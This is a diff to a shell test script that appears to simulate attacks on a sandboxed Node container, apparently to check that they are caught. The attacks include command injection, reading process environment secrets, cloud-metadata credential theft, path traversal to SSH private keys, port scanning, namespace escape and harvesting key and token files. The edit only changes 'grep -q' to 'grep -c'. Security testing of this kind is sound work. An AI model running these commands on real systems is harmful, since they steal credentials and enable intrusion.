@@ -159,7 +159,7 @@ rare_debugger() {
 rare_heap_snapshot() {
 	container_signal node WINCH
 	sleep 5
-	find "$(volume_path node /var/lib/notes)" -name '*.heapsnapshot' -size +100k -delete -print | grep -q .
+	find "$(volume_path node /var/lib/notes)" -name '*.heapsnapshot' -size +100k -delete -print | grep -c .
 }
 
 rare_operator_script() {
@@ -228,7 +228,7 @@ evaluate() {
 attack_command_injection() {
 	harm exec '/usr/bin/id'
 	harm read '/etc/passwd'
-	shell_command 'id; cat /etc/passwd' | grep -q '^uid=1000'
+	shell_command 'id; cat /etc/passwd' | grep -c '^uid=1000'
 }
 
 attack_reverse_shell() {
@@ -252,7 +252,7 @@ attack_prototype_pollution() {
 
 attack_evaluated_secret() {
 	harm read '/proc/*/environ'
-	evaluate 'require("fs").readFileSync("/proc/self/environ", "utf8")' | grep -q token-of-the-peer
+	evaluate 'require("fs").readFileSync("/proc/self/environ", "utf8")' | grep -c token-of-the-peer
 }
 
 # A view whose function is called as it is read.
@@ -268,12 +268,12 @@ attack_deserialisation() {
 attack_metadata() {
 	harm connect '169.254.169.254:80'
 	fetch "/notes/$(send POST /import '{"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/app"}' |
-		jq -r .id)" | grep -q metadata-secret-key
+		jq -r .id)" | grep -c metadata-secret-key
 }
 
 attack_traversal() {
 	harm read '/home/node/.ssh/id_ed25519'
-	fetch "/files/$(quote ../../../../home/node/.ssh/id_ed25519)" | grep -q 'PRIVATE KEY'
+	fetch "/files/$(quote ../../../../home/node/.ssh/id_ed25519)" | grep -c 'PRIVATE KEY'
 }
 
 attack_miner() {
@@ -291,7 +291,7 @@ attack_scan() {
 	evaluate "(globalThis.scanned ??= Array.from({ length: 80 }, (_, i) => require('net').connect(i + 20, '$peer_address')
 		.on('error', () => 0).on('connect', function () { globalThis.open = i + 20; this.end() }))).length"
 	sleep 2
-	evaluate 'globalThis.open' | grep -q 53
+	evaluate 'globalThis.open' | grep -c 53
 }
 
 attack_brute_force() {
@@ -308,14 +308,14 @@ attack_escape_namespace() {
 	harm call unshare
 	harm call mount
 	shell_command 'mkdir /tmp/m; unshare -Urm sh -c "mount -t tmpfs none /tmp/m && cat /proc/self/mounts" 2>&1' |
-		tee /dev/stderr | grep -q '^none /tmp/m'
+		tee /dev/stderr | grep -c '^none /tmp/m'
 }
 
 attack_credentials() {
 	harm read '/home/node/.ssh/*'
 	harm read '/proc/*/environ'
 	shell_command 'cat /home/node/.ssh/id_* /home/node/.npmrc /proc/[0-9]*/environ; find / -xdev -name "*.pem" -o -name "*.key"' |
-		grep -aq 'PRIVATE KEY'
+		grep -ac 'PRIVATE KEY'
 }
 
 # A door of the attacker's own: who connects has its text evaluated.
